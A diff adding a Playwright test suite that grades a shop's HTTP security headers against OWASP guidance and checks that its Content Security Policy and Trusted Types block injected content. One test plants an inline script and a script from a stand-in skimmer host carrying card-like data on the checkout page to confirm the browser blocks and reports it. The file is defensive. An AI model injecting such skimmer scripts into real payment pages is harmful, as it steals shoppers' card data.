@@ -1,0 +1,159 @@
+import { execFile } from 'node:child_process';
+import { dirname, join } from 'node:path';
+import { promisify } from 'node:util';
+import { paths } from '@site/domain/paths';
+import type { APIRequestContext } from 'playwright/test';
+import { expect, open, test } from '../fixtures.ts';
+import { formReady } from '../purchase.ts';
+import { repository } from '../workshop.ts';
+
+type Headers = Readonly<Record<string, string>>;
+type Grade = readonly [header: string, passes: (value: string | undefined) => boolean];
+
+/**
+ * What the OWASP Secure Headers Project asks of an answer, header by header. Strict-Transport-Security is
+ * left to HTTPS, and Clear-Site-Data to sites with a session; neither is here.
+ */
+const everyAnswer: readonly Grade[] = [
+  ['x-content-type-options', (value) => value === 'nosniff'],
+  ['referrer-policy', (value) => /^(no-referrer|strict-origin-when-cross-origin)$/.test(value ?? '')],
+  ['cross-origin-resource-policy', (value) => /^same-(origin|site)$/.test(value ?? '')],
+  ['x-permitted-cross-domain-policies', (value) => value === 'none'],
+  ...[
+    'server',
+    'x-powered-by',
+    'x-aspnet-version',
+    'via',
+    'expect-ct',
+    'public-key-pins',
+    'feature-policy',
+  ].map((name): Grade => [name, (value) => value === undefined]),
+];
+const everyDocument: readonly Grade[] = [
+  ...everyAnswer,
+  ['x-frame-options', (value) => value === 'DENY'],
+  ['x-xss-protection', (value) => value === undefined || value === '0'],
+  [
+    'permissions-policy',
+    (value) => ['camera', 'geolocation', 'microphone', 'usb'].every((one) => value?.includes(`${one}=()`)),
+  ],
+  ['cross-origin-opener-policy', (value) => value?.startsWith('same-origin') === true],
+  ['content-security-policy', (value) => /(^|; )default-src 'self'/.test(value ?? '')],
+  ['content-security-policy', (value) => /(^|; )frame-ancestors 'none'/.test(value ?? '')],
+  ['content-security-policy', (value) => /(^|; )base-uri 'none'/.test(value ?? '')],
+  ['content-security-policy', (value) => /(^|; )object-src 'none'/.test(value ?? '')],
+  ['content-security-policy', (value) => /(^|; )form-action 'self'/.test(value ?? '')],
+  ['content-security-policy', (value) => !/unsafe-inline|unsafe-eval|\*(?!\.)/.test(value ?? '')],
+  [
+    'content-security-policy',
+    (value) => !/script-src[^;]*(data:|blob:|https?:(?:\s|;)|\*\s)/.test(value ?? ''),
+  ],
+  ['cache-control', (value) => value === 'no-cache' || value === 'no-store'],
+];
+const everyPage: readonly Grade[] = [
+  ...everyDocument,
+  ['cross-origin-embedder-policy', (value) => value === 'require-corp'],
+  ['content-security-policy', (value) => value?.includes("require-trusted-types-for 'script'") === true],
+];
+
+const failing = (headers: Headers, grades: readonly Grade[]) =>
+  grades.filter(([name, passes]) => !passes(headers[name])).map(([name]) => `${name}: ${headers[name]}`);
+
+async function headersAt(request: APIRequestContext, address: string): Promise<Headers> {
+  return (await request.get(address, { maxRedirects: 0 })).headers();
+}
+
+test('every kind of answer passes what the OWASP Secure Headers Project asks', async ({ request, site }) => {
+  for (const path of [...Object.values(paths), '/no/such/page', '/_release/000000000000/']) {
+    if (path === paths.workPortfolio) continue;
+    const grades = path === paths.checkout ? everyDocument : everyPage;
+    expect(failing(await headersAt(request, path), grades), path).toEqual([]);
+  }
+  const html = await (await request.get('/')).text();
+  const script = /<script type="module" src="([^"]+)"/.exec(html)?.[1] ?? '';
+  for (const address of [
+    script,
+    paths.workPortfolio,
+    '/favicon.svg',
+    '/r/none/000000000000/a.js',
+    '/robots.txt',
+  ]) {
+    expect(failing(await headersAt(request, address), everyAnswer), address).toEqual([]);
+  }
+  for (const address of ['/health', '/nowhere', '/outbox']) {
+    const headers = await headersAt(request, site.urls.api + address);
+    expect(failing(headers, everyAnswer), address).toEqual([]);
+    expect(headers['content-security-policy'], address).toContain("default-src 'none'");
+  }
+});
+
+test.describe('what a page refuses', () => {
+  test.use({ tolerated: { patterns: [/Content Security Policy|Trusted ?Type|TrustedScript|TrustedHTML/] } });
+
+  test('text does not become markup or a script off the payment page', async ({ page }) => {
+    await open(page, paths.home);
+    const refusals = await page.evaluate(() => {
+      const outcome = (act: () => unknown) => {
+        try {
+          act();
+          return 'done';
+        } catch (error) {
+          return (error as Error).name;
+        }
+      };
+      const { trustedTypes } = window as unknown as {
+        trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
+      };
+      return {
+        markup: outcome(() => {
+          document.createElement('p').innerHTML = '<img src=x>';
+        }),
+        script: outcome(() => {
+          document.createElement('script').text = '1';
+        }),
+        policy: outcome(() => trustedTypes.createPolicy('another', { createHTML: (text: string) => text })),
+      };
+    });
+    expect(refusals).toEqual({
+      markup: 'TypeError',
+      script: 'TypeError',
+      policy: 'TypeError',
+    });
+  });
+
+  test('is told to the API by the browser, and shown to the operator', async ({ page, site }) => {
+    await page.goto(paths.checkout);
+    await formReady(page);
+    await page.evaluate(() => {
+      const script = document.createElement('script');
+      script.textContent = 'window.ran = true';
+      document.head.append(script);
+      document.head.append(
+        Object.assign(document.createElement('script'), { src: 'https://skimmer.example/a.js?c=4242' }),
+      );
+      document.body.setAttribute('style', 'color: red');
+    });
+    expect(await page.evaluate(() => 'ran' in window)).toBe(false);
+    expect(await page.evaluate(() => document.body.style.color)).toBe('');
+
+    const set = JSON.parse((await page.locator('#release-set').textContent()) ?? '{}').id as string;
+    const env = { ...process.env, DATA_DIR: dirname(site.store) };
+    const told = async () => {
+      const command = [join(repository, 'services/api/src/operate.ts'), 'csp-reports', '--json'];
+      const { stdout } = await promisify(execFile)(process.execPath, command, { env });
+      return JSON.parse(stdout) as unknown;
+    };
+    const row = (directive: string, blocked: string) =>
+      expect.objectContaining({ set, page: paths.checkout, directive, blocked });
+    await expect
+      .poll(told, { timeout: 20_000 })
+      .toEqual(
+        expect.arrayContaining([
+          row('script-src-elem', 'inline'),
+          row('script-src-elem', 'https://skimmer.example'),
+          row('style-src-attr', 'inline'),
+        ]),
+      );
+    expect(JSON.stringify(await told())).not.toContain('4242');
+  });
+});
